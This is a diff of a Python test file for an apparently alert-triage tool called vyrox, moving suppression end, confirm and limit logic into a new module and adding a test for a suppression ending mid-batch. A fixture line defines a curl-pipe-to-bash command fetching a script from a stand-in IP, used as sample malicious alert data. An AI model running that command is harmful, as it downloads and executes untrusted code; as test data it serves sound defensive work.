@@ -16,7 +16,7 @@ from vyrox.errors import InvalidRequestError, NotFoundError, NotPossibleError
 from vyrox.models import NormalizedAlert
 from vyrox.store.database import Database
 from vyrox.store.tables import verdicts
-from vyrox.triage import suppressions
+from vyrox.triage import suppression_life, suppressions
 from vyrox.triage.decisions import decide_alerts
 from vyrox.triage.explaining import explain, list_hidden
 from vyrox.triage.fingerprint import MAX_SHAPED
@@ -37,7 +37,8 @@ from vyrox.triage.scope import (
 from vyrox.triage.score import Verdict, judge, with_error
 from vyrox.triage.story import BANDS
 from vyrox.triage.suppressing import Asked, offers, suppress
-from vyrox.triage.suppressions import DAY_S, MAX_ACTIVE, Suppression
+from vyrox.triage.suppression_life import DAY_S, MAX_ACTIVE
+from vyrox.triage.suppressions import Suppression
 from vyrox.triage.switches import Disabled, disable, enable
 
 DOWNLOAD = "curl -fsSL http://203.0.113.7/agent-{}.sh | bash"
@@ -134,20 +135,20 @@ async def test_it_expires_and_ends_contract_56(database: Database) -> None:
 
     async def holding(now: float) -> set[str]:
         found = await database.read(suppressions.read_holding, TENANT, now)
-        return {each.id for each in found}
+        return {suppression_id for suppression_id, _ in found}
 
     assert await holding(made.expires_at - 1) == {made.id, other.id}
     assert await holding(made.expires_at) == {other.id}
     assert other.expires_at == NOW + 30 * DAY_S
-    await database.write(suppressions.end, TENANT, other.id, "bob", "moved", NOW + 5)
+    await database.write(suppression_life.end, TENANT, other.id, "bob", "moved", NOW + 5)
     assert await holding(NOW + 6) == {made.id}
     kinds = [each["kind"] for each in await events(database, TENANT)]
     assert kinds == ["suppression.created"] * 2 + ["suppression.ended"]
     # A second end changes nothing, and has no event.
-    await database.write(suppressions.end, TENANT, other.id, "bob", "again", NOW + 7)
+    await database.write(suppression_life.end, TENANT, other.id, "bob", "again", NOW + 7)
     assert len(await events(database, TENANT)) == 3
     with pytest.raises(NotFoundError):
-        await database.write(suppressions.end, "other", made.id, "bob", "", NOW)
+        await database.write(suppression_life.end, "other", made.id, "bob", "", NOW)
     for days in (0, 181):
         with pytest.raises(InvalidRequestError):
             await make(database, program="curl", any_host=True, days=days)
@@ -173,7 +174,7 @@ async def test_a_malicious_verdict_ends_it_on_any_host_contract_56(database: Dat
     await database.write(decide_alerts, Decision(None, (same.id,), "benign", "bob"), NOW + 6)
     await make(database, like=first.id)
     holding = await database.read(suppressions.read_holding, TENANT, NOW + 7)
-    assert by_program.id in {each.id for each in holding}
+    assert by_program.id in {suppression_id for suppression_id, _ in holding}
 
 
 @pytest.mark.parametrize("second", ["ann", " Ann ", "\uff21nn"])
@@ -186,26 +187,45 @@ async def test_dangerous_families_need_a_second_person_contract_56(
     assert made.state(NOW) == "unconfirmed"
     assert (await run_batch(database, new(1, SHADOWS)))[0].suppression is None
     with pytest.raises(NotPossibleError, match="second person"):
-        await database.write(suppressions.confirm, TENANT, made.id, second, NOW)
-    await database.write(suppressions.confirm, TENANT, made.id, "bob", NOW)
+        await database.write(suppression_life.confirm, TENANT, made.id, second, NOW)
+    await database.write(suppression_life.confirm, TENANT, made.id, "bob", NOW)
     assert (await run_batch(database, new(2, SHADOWS)))[0].suppression == made.id
     with pytest.raises(NotPossibleError):
-        await database.write(suppressions.confirm, TENANT, made.id, "carl", NOW)
+        await database.write(suppression_life.confirm, TENANT, made.id, "carl", NOW)
     [confirmed] = await events(database, TENANT, "suppression.confirmed")
     assert confirmed["by"] == "bob"
+
+
+async def test_one_that_ends_while_a_batch_is_judged_hides_nothing_contract_56(
+    database: Database,
+) -> None:
+    first = new(command=DOWNLOAD.format(1), vendor_severity="HIGH")
+    await run_batch(database, first)
+    made = await make(database, like=first.id)
+    memory = await database.read(read_memory, TENANT, NOW)
+    late = new(1, DOWNLOAD.format(2), vendor_severity="HIGH")
+    hidden = memory.suppressed(late, judge(late))
+    assert hidden.suppression == made.id
+    decision = Decision(None, (first.id,), "malicious", "bob")
+    await database.write(decide_alerts, decision, NOW + 1)
+    await stored_rows(database, [late])
+    await database.write(store_verdicts, TENANT, [(late, hidden)], NOW + 2)
+    shown = await database.read(explain, late.id)
+    assert (shown.band, shown.suppression) == (judge(late).band, None)
+    assert (await hits(database, made.id))[0] == 0
 
 
 async def test_the_number_of_suppressions_is_bounded_contract_56(
     sqlite: Database, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert MAX_ACTIVE <= 500
-    monkeypatch.setattr(suppressions, "MAX_ACTIVE", 2)
+    monkeypatch.setattr(suppression_life, "MAX_ACTIVE", 2)
     await make(sqlite, program="a", any_host=True)
     last = await make(sqlite, program="b", any_host=True)
     with pytest.raises(NotPossibleError, match="2 suppressions already"):
         await make(sqlite, program="c", any_host=True)
     await make(sqlite, program="c", any_host=True, tenant_id="other")
-    await sqlite.write(suppressions.end, TENANT, last.id, "ann", "", NOW)
+    await sqlite.write(suppression_life.end, TENANT, last.id, "ann", "", NOW)
     await make(sqlite, program="c", any_host=True)
 
 
@@ -380,18 +400,13 @@ def judged_alerts(draw: st.DrawFn) -> tuple[NormalizedAlert, Verdict]:
     return alert, Verdict(draw(st.floats(0, 100)), band, families=draw(SHARES))
 
 
-def suppression_of(scope: Scope, number: int = 0) -> Suppression:
-    values: dict[str, object] = dict.fromkeys(Suppression.__struct_fields__)
-    return Suppression(**{**values, "id": f"sup-{number}", "scope": scope})  # type: ignore[arg-type]
-
-
 @given(st.lists(SCOPES, max_size=4), judged_alerts())
 def test_a_suppression_never_hides_more_than_its_scope_contract_56(
     scopes: Sequence[Scope], judged: tuple[NormalizedAlert, Verdict]
 ) -> None:
     """It never raises a band, and hides no family, host, user, program or command outside it."""
     alert, verdict = judged
-    memory = remember(suppression_of(scope, n) for n, scope in enumerate(scopes))
+    memory = remember((f"sup-{n}", scope) for n, scope in enumerate(scopes))
     after = memory.suppressed(alert, verdict)
     assert BANDS.index(after.band) <= BANDS.index(verdict.band)
     assert msgspec.structs.replace(after, band=verdict.band, suppression=None) == verdict
